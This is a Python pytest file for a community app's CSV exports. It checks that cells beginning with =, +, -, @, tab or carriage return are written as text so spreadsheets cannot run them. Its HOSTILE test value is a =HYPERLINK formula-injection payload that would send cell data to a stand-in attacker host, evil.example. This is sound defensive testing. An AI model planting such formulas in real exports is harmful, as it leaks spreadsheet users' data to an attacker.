"""Every CSV the app writes opens in a spreadsheet without running a formula."""
import csv
import io

import factories
import pytest
from conftest import NOW
from journeys import log_in_coordinator

from web.models import Place
from web.services.csv_safe import safe_cell
from web.views.coordinators.stats import TABLE_NAMES

PASSWORD = "correct horse battery"
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'


@pytest.fixture
def coordinator(client, session, monkeypatch):
    from web.services.accounts import create_coordinator

    monkeypatch.setattr("web.clock.utcnow", lambda: NOW)
    create_coordinator(session, NOW, "claire@villiers.example", PASSWORD, name="Claire")
    session.commit()
    return log_in_coordinator(client, "claire@villiers.example", PASSWORD)


def cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";")
            for cell in row]


@pytest.mark.parametrize("value, written", [
    (HOSTILE, "'" + HOSTILE), ("+33 6 12", "'+33 6 12"), ("-1+2", "'-1+2"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Café", "Café"), ("-2,5", "-2,5"), ("+3", "+3"), (-4, -4), (1.5, 1.5), ("", ""),
])
def test_a_cell_that_would_be_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_hostile_names_appear_as_text_in_the_statistics(coordinator, session):
    quarters = factories.load_villiers(session)
    factories.newcomer(session, first_name=HOSTILE, neighbourhood_id=quarters["centre-ville"].id)
    session.add(Place(slug="piege", name=HOSTILE, kind="other",
                      neighbourhood_id=quarters["centre-ville"].id))
    session.commit()
    written = []
    for name in TABLE_NAMES:
        response = coordinator.get(f"/coordination/statistiques/{name}.csv")
        assert response.status_code == 200 and response.mimetype == "text/csv"
        written += cells(response.data)
    assert "'" + HOSTILE in written
    assert not [cell for cell in written if cell and (
        cell[0] in "=@\t\r" or (cell[0] in "+-" and not cell[1:2].isdigit()))]


def test_import_templates_stay_plain(coordinator):
    for url in ("/coordination/import/modele-newcomer.csv",
                "/coordination/import/modele-volunteer.csv",
                "/coordination/activites/import/modele.csv"):
        response = coordinator.get(url)
        assert response.status_code == 200
        assert not [cell for cell in cells(response.data) if cell[:1] in "=+-@\t\r" and cell]
